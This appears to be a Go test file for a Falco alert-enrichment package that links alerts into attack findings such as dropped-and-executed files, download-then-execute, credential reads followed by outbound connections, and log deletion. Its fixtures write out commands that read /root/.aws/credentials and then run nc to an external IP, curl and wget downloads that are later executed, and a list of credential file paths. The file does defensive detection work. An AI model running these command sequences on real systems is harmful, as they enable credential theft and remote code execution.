package incident_test

import (
	"cmp"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	pb "github.com/falco-reporter/falco-reporter/gen/go/falcoreporter/v1"
	"github.com/falco-reporter/falco-reporter/internal/alert"
	"github.com/falco-reporter/falco-reporter/internal/enrich/incident"
)

// does is what a child of the shell with pid 100 does.
func does(pid int, name, cmdline, call string, over ...any) map[string]any {
	return fields(process(pid, 100, name, "bash"), append([]any{"proc.cmdline", cmdline, "evt.type", call, "fd.name", nil}, over...)...)
}

// TestCombinations: what only several alerts show together, in the order in which it happened,
// and what only looks like it.
func TestCombinations(t *testing.T) {
	create := does(101, "cp", "cp /bin/true /tmp/t", "openat", "evt.arg.name", "/tmp/t", "evt.arg.mode", "0644")
	isNew := fields(create, "evt.arg.flags", "O_CREAT|O_TRUNC|O_WRONLY|O_F_CREATED")
	moved := does(101, "mv", "mv /tmp/u /tmp/t", "rename", "evt.arg.oldpath", "/tmp/u", "evt.arg.newpath", "/tmp/t")
	allow := does(102, "chmod", "chmod +x /tmp/t", "fchmodat", "evt.arg.filename", "/tmp/t", "evt.arg.mode", "S_IXUSR|S_IRUSR")
	run := does(103, "t", "/tmp/t", "execve", "proc.exepath", "/tmp/t")
	download := does(104, "curl", "curl -s -o /tmp/t https://x.example/t", "execve", "proc.exepath", "/usr/bin/curl")
	secret := does(105, "cat", "cat /root/.aws/credentials", "openat", "fd.name", "/root/.aws/credentials")
	send := does(106, "nc", "nc 198.51.100.7 80", "connect", "fd.name", "10.0.0.1:5000->198.51.100.7:80", "fd.type", "ipv4", "fd.sip", "198.51.100.7", "fd.sport", 80)
	shell := does(107, "sh", "sh -c id", "execve", "proc.exepath", "/usr/bin/dash")
	wipe := does(108, "python3", "python3 w.py", "unlink", "evt.arg.path", "/var/log/auth.log", "proc.pname", "python3")
	const (
		dropped  = "“/tmp/t” was created, then made executable, then executed."
		half     = "“/tmp/t” was created, then made executable."
		fetched  = "A download was to be saved as “/tmp/t”, and then “/tmp/t” was executed."
		sent     = "“/root/.aws/credentials”, which holds credentials, was opened before a connection to “198.51.100.7”."
		removed  = "After a shell had been at work, “/var/log/auth.log” was emptied, moved or removed."
		noReport = ""

		maybeNew     = "“/tmp/t” was opened for creation, then made executable, then executed."
		maybeNewHalf = "“/tmp/t” was opened for creation, then made executable."
		movedHalf    = "“/tmp/t” was put in place by a rename, then made executable."
		maybeDropped = "Calls to create “/tmp/t”, to make it executable and to execute it came in this order; not all results are shown."
		maybeHalf    = "Calls to create “/tmp/t” and to make it executable came in this order; not all results are shown."
		maybeSent    = "A call to open “/root/.aws/credentials”, which holds credentials, came before one to reach “198.51.100.7”; not all results are shown."
		maybeRemoved = "After a shell had been at work, a call came to empty, move or remove “/var/log/auth.log”; its result is not shown."
	)
	for _, test := range []struct {
		name  string
		does  []map[string]any
		want  string
		level string
	}{
		{"dropped, made executable, executed", []map[string]any{isNew, allow, run}, dropped, "page"},
		{"not executed", []map[string]any{isNew, allow}, half, "today"},
		{"new by its own field", []map[string]any{shell, fields(create, "evt.is_open_create", true), allow}, half, "today"},
		{"new or the call fails", []map[string]any{fields(create, "evt.arg.flags", "O_EXCL|O_CREAT|O_WRONLY"), allow}, half, "today"},
		{"new or emptied", []map[string]any{fields(create, "evt.arg.flags", "O_CREAT|O_TRUNC|O_WRONLY"), allow, run}, maybeNew, "page"},
		{"a mode alone", []map[string]any{create, allow}, maybeNewHalf, "today"},
		{"creat takes a file that was there", []map[string]any{fields(create, "evt.type", "creat"), allow}, maybeNewHalf, "today"},
		{"a file without a name", []map[string]any{fields(create, "evt.arg.flags", "O_TMPFILE|O_WRONLY"), allow}, noReport, ""},
		{"renamed", []map[string]any{moved, allow}, movedHalf, "today"},
		{"dropped, result of the chmod unknown", []map[string]any{isNew, fields(allow, "evt.res", nil), run}, maybeDropped, "page"},
		{"dropped and named by a shell", []map[string]any{create, allow, fields(run, "evt.res", nil, "proc.exepath", "/usr/bin/dash", "proc.name", "sh", "proc.cmdline", "sh -c /tmp/t")}, maybeDropped, "page"},
		{"not executed, results unknown", []map[string]any{fields(create, "evt.res", nil), allow}, maybeHalf, "today"},
		{"credentials and connection, results unknown", []map[string]any{secret, fields(send, "evt.res", nil)}, maybeSent, "page"},
		{"shell and log, result unknown", []map[string]any{shell, fields(wipe, "evt.res", nil)}, maybeRemoved, "today"},
		{"made executable by another name", []map[string]any{create, fields(allow, "evt.arg.filename", "/tmp/u")}, noReport, ""},
		{"chmod was refused", []map[string]any{create, fields(allow, "evt.res", "EPERM")}, noReport, ""},
		{"made executable before", []map[string]any{allow, create}, noReport, ""},
		{"the mode gives no right to execute", []map[string]any{create, fields(allow, "evt.arg.mode", "S_IRUSR")}, noReport, ""},
		{"start failed", []map[string]any{create, allow, fields(run, "evt.res", "EACCES")}, maybeNewHalf, "today"},
		{"downloaded and executed", []map[string]any{download, run}, fetched, "page"},
		{"executed and downloaded", []map[string]any{run, download}, noReport, ""},
		{"printed and something executed", []map[string]any{fields(download, "proc.cmdline", "curl -s https://x.example/t"), run}, noReport, ""},
		{"credentials and connection", []map[string]any{secret, send}, sent, "page"},
		{"credentials of the program itself", []map[string]any{fields(secret, "proc.name", "aws"), fields(send, "proc.name", "aws")}, sent, "today"},
		{"credentials of another program", []map[string]any{fields(secret, "proc.name", "aws"), send}, sent, "page"},
		{"connection and credentials", []map[string]any{send, secret}, noReport, ""},
		{"connection to itself", []map[string]any{secret, fields(send, "fd.sip", "127.0.0.1", "fd.name", "127.0.0.1:5000->127.0.0.1:80")}, noReport, ""},
		{"connection was refused", []map[string]any{secret, fields(send, "evt.res", "EACCES")}, noReport, ""},
		{"shell and log", []map[string]any{shell, wipe}, removed, "today"},
		{"no shell and log", []map[string]any{fields(shell, "proc.name", "id", "proc.pname", "make"), wipe}, noReport, ""},
		{"log is only opened", []map[string]any{shell, fields(wipe, "evt.type", "openat", "fd.name", "/var/log/auth.log")}, noReport, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			var alerts []*alert.Alert
			for i, f := range test.does {
				alerts = append(alerts, made(t, time.Duration(i)*time.Second, "R"+string(rune('0'+i)), "Notice", f))
			}
			reports := final(t, joined(t, incident.Options{}, alerts))
			if len(reports) != 1 {
				t.Fatalf("%d reports", len(reports))
			}
			first := reports[0].GetShown()[0]
			combined := len(first.GetAlertIds()) > 1 && first.GetStatement() == test.want
			if test.want != noReport && (!combined || level(reports[0]) != test.level) {
				t.Errorf("%s: %s", level(reports[0]), first)
			}
			for _, f := range reports[0].GetShown() {
				if test.want == noReport && strings.Contains(dropped+half+maybeNew+maybeNewHalf+movedHalf+fetched+sent+removed+maybeDropped+maybeHalf+maybeSent+maybeRemoved, f.GetStatement()) {
					t.Errorf("told: %s", f.GetStatement())
				}
			}
		})
	}
}

// TestCombinationNeedsOneTree: what different trees of a host do is not combined, even in one
// report.
func TestCombinationNeedsOneTree(t *testing.T) {
	shell := fields(process(300, 200, "bash", "make"), "evt.type", "execve")
	wipe := fields(process(400, 201, "bash", "make"), "evt.type", "unlink", "fd.name", nil, "evt.arg.path", "/var/log/auth.log")
	reports := final(t, joined(t, incident.Options{}, []*alert.Alert{made(t, 0, "R", "Notice", shell), made(t, 1e9, "R", "Notice", wipe)}))
	if len(reports) != 1 {
		t.Fatalf("%d reports", len(reports))
	}
	for _, f := range reports[0].GetShown() {
		if strings.HasPrefix(f.GetStatement(), "After a shell") {
			t.Error(f)
		}
	}
}

// TestCertainCreation: a finding is certain only where a field says that the file was not there.
func TestCertainCreation(t *testing.T) {
	allow := does(102, "chmod", "chmod +x /tmp/t", "fchmodat", "evt.arg.filename", "/tmp/t", "evt.arg.mode", "S_IXUSR|S_IRUSR")
	const open = "That “/tmp/t” was new or was executed."
	for flags, want := range map[string]pb.Confidence{
		"O_CREAT|O_TRUNC|O_WRONLY|O_F_CREATED": pb.Confidence_CONFIDENCE_CERTAIN,
		"O_CREAT|O_TRUNC|O_WRONLY":             pb.Confidence_CONFIDENCE_LIKELY,
	} {
		create := does(101, "cp", "cp /bin/true /tmp/t", "openat", "evt.arg.name", "/tmp/t", "evt.arg.flags", flags)
		r := final(t, joined(t, incident.Options{}, []*alert.Alert{made(t, 0, "R", "Notice", create), made(t, 1e9, "S", "Notice", allow)}))[0]
		f := r.GetShown()[0]
		if f.GetConfidence() != want || !slices.Equal(f.GetEvidence(), []string{"evt.type", "evt.arg.name", "evt.arg.flags", "evt.arg.filename", "evt.arg.mode", "evt.res"}) {
			t.Errorf("%s: %v", flags, f)
		}
		if told := slices.Contains(r.GetNotShown(), open); told != (want == pb.Confidence_CONFIDENCE_LIKELY) {
			t.Errorf("%s: not shown %q", flags, r.GetNotShown())
		}
	}
}

// TestCredentials: what is said to hold credentials does, and asking for an address is no
// connection.
func TestCredentials(t *testing.T) {
	const pods, service = "/var/lib/kubelet/pods/5b1c/volumes/", "/run/secrets/kubernetes.io/serviceaccount/"
	read := does(105, "cat", "cat", "openat")
	send := does(106, "nc", "nc 198.51.100.7 80", "connect", "fd.name", "10.0.0.1:5000->198.51.100.7:80", "fd.type", "ipv4", "fd.l4proto", "tcp", "fd.sip", "198.51.100.7", "fd.sport", 80)
	lookup := fields(send, "fd.name", "10.0.0.1:5000->10.0.0.53:53", "fd.l4proto", "udp", "fd.sip", "10.0.0.53", "fd.sport", 53)
	found := func(f ...map[string]any) string {
		var alerts []*alert.Alert
		for i, x := range f {
			alerts = append(alerts, made(t, time.Duration(i)*time.Second, "R"+string(rune('0'+i)), "Notice", x))
		}
		for _, f := range final(t, joined(t, incident.Options{}, alerts))[0].GetShown() {
			if strings.Contains(f.GetStatement(), "which holds credentials") {
				if f.GetConfidence() == pb.Confidence_CONFIDENCE_CERTAIN {
					t.Errorf("by its name alone: %v", f)
				}
				return f.GetStatement()
			}
		}
		return ""
	}
	for file, want := range map[string]bool{
		"/etc/shadow": true, "/home/a/.ssh/id_ed25519": true, "/var" + service + "token": true, service + "..data/token": true,
		"/etc/kubernetes/admin.conf": true, "/etc/kubernetes/pki/sa.key": true, "/var/lib/kubelet/pki/kubelet-client-current.pem": true,
		pods + "kubernetes.io~secret/db/password": true, pods + "kubernetes.io~projected/kube-api-access-x/token": true,

		"/etc/sudoers": false, "/etc/sudoers.d/a": false, "/dev/mem": false, "/run/docker.sock": false, "/proc/1/environ": false,
		"/var/lib/kubelet/config.yaml": false, "/etc/kubernetes/manifests/kube-proxy.yaml": false, "/etc/kubernetes/pki/ca.crt": false,
		"/var/lib/kubelet/pki/kubelet.crt": false, service + "ca.crt": false, pods + "kubernetes.io~configmap/token": false, "token": false,
	} {
		if got := found(fields(read, "fd.name", file), send); (got != "") != want {
			t.Errorf("%s: %q", file, got)
		}
	}
	secret := fields(read, "fd.name", "/etc/shadow")
	for name, test := range map[string]struct {
		does []map[string]any
		want bool
	}{
		"a name looked up":           {[]map[string]any{secret, lookup}, false},
		"known by fd.name alone":     {[]map[string]any{secret, fields(lookup, "fd.sip", nil, "fd.sport", nil, "fd.l4proto", nil)}, false},
		"a name, then a connection":  {[]map[string]any{secret, lookup, fields(send, "fd.sip", nil, "fd.sport", nil)}, true},
		"TCP to the port of names":   {[]map[string]any{secret, fields(send, "fd.name", "10.0.0.1:5000->198.51.100.7:53", "fd.sport", 53)}, true},
		"opened for writing alone":   {[]map[string]any{fields(secret, "evt.arg.flags", "O_TRUNC|O_WRONLY"), send}, false},
		"opened for reading as well": {[]map[string]any{fields(secret, "evt.arg.flags", "O_RDWR"), send}, true},
	} {
		const want = "“/etc/shadow”, which holds credentials, was opened before a connection to “198.51.100.7”."
		if got := found(test.does...); got != "" && got != want || (got != "") != test.want {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// TestDownloads: what curl and wget save under which name, and that a program of that name ran.
// How they read the options was tried with curl 7.88 and GNU wget 1.21.
func TestDownloads(t *testing.T) {
	const unknown = "perhaps"
	for _, test := range []struct{ command, ran, want string }{
		{"curl -fsSLo /tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"curl -so /tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"curl -o/tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"curl --output /tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"curl --output=/tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"curl -H X-O:o -o /tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"curl --output-dir /tmp -o t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"curl -sSLO https://x.example/d/t?v=1#f", "/tmp/t", "t"},
		{"curl -Oo /tmp/u https://x.example/t https://x.example/v", "/tmp/t", "t"},
		{"curl --remote-name-all -e https://x.example/r x.example/u x.example/t", "/tmp/t", "t"},
		{"curl -O --proxy http://x.example/u https://x.example/t", "/tmp/t", "t"},
		{"curl -JO https://x.example/u", "/tmp/t", unknown},
		{"curl -O https://x.example/u", "/tmp/t", unknown},
		{"curl -so /tmp/u https://x.example/t", "/tmp/t", ""},
		{"curl -so - https://x.example/t", "/tmp/t", ""},
		{"curl -o/dev/null https://x.example/t", "/tmp/t", ""},
		{"curl -HO: https://x.example/t", "/tmp/t", ""},
		{"wget -qO /tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"wget -qO/tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"wget -q --output-document=/tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"wget --output-document /tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"wget -nv -o /tmp/log -O /tmp/u -O /tmp/t https://x.example/a", "/tmp/t", "/tmp/t"},
		{"wget -qP /tmp https://x.example/t", "/tmp/t", "/tmp/t"},
		{"wget x.example/d/t", "/tmp/t", "t"},
		{"wget -- https://x.example/t", "/tmp/t", "t"},
		{"wget https://x.example/t?v=1", "/tmp/t", unknown},
		{"wget -i list", "/tmp/t", unknown},
		{"wget -qO /tmp/u https://x.example/t", "/tmp/t", ""},
		{"wget -qO- https://x.example/t", "/tmp/t", ""},
		{"wget -O- https://x.example/t", "/tmp/t", ""},
		{"wget -O /dev/stdout https://x.example/t", "/tmp/t", ""},
		{"wget --spider https://x.example/t", "/tmp/t", ""},
		{"wget https://x.example/t", "sh t", "t"},
		{"wget https://x.example/t", "bash -ex ./t", "t"},
		{"wget https://x.example/t", "sh -c t", ""},
		{"wget https://x.example/t", "t ./t", "t"}, // a script by itself
		{"wget https://x.example/t", "bash -o t", ""},
		{"curl -o t https://x.example/a", "/srv/t", "/srv/t"},
		{"curl -o t https://x.example/a", "sh t", "/srv/t"},
		{"curl -o t https://x.example/a", "/opt/t", ""},
	} {
		name, _, _ := strings.Cut(test.command, " ")
		download := does(104, name, test.command, "execve", "proc.exepath", "/usr/bin/"+name)
		tool, _, script := strings.Cut(test.ran, " ")
		run := does(103, path.Base(tool), test.ran, "execve", "proc.exepath", tool)
		if script {
			run["proc.exepath"] = "/usr/bin/dash"
		}
		if strings.HasPrefix(test.command, "curl -o t") {
			download["proc.cwd"], run["proc.cwd"] = "/srv/", "/srv/"
		}
		reports := final(t, joined(t, incident.Options{}, []*alert.Alert{made(t, 0, "R", "Notice", download), made(t, 1e9, "S", "Notice", run)}))
		got := ""
		for _, f := range reports[0].GetShown() {
			if after, ok := strings.CutPrefix(f.GetStatement(), "A download was to be saved as “"); ok {
				got, _, _ = strings.Cut(after, "”")
			} else if strings.HasSuffix(f.GetStatement(), "perhaps what it fetched.") {
				got = unknown
			}
		}
		if got != test.want {
			t.Errorf("%s, then %s: %q, not %q", test.command, test.ran, got, test.want)
		}
		if want := map[string]string{"": level(reports[0]), unknown: "today"}[test.want]; level(reports[0]) != cmp.Or(want, "page") {
			t.Errorf("%s, then %s: %s", test.command, test.ran, level(reports[0]))
		}
	}
}
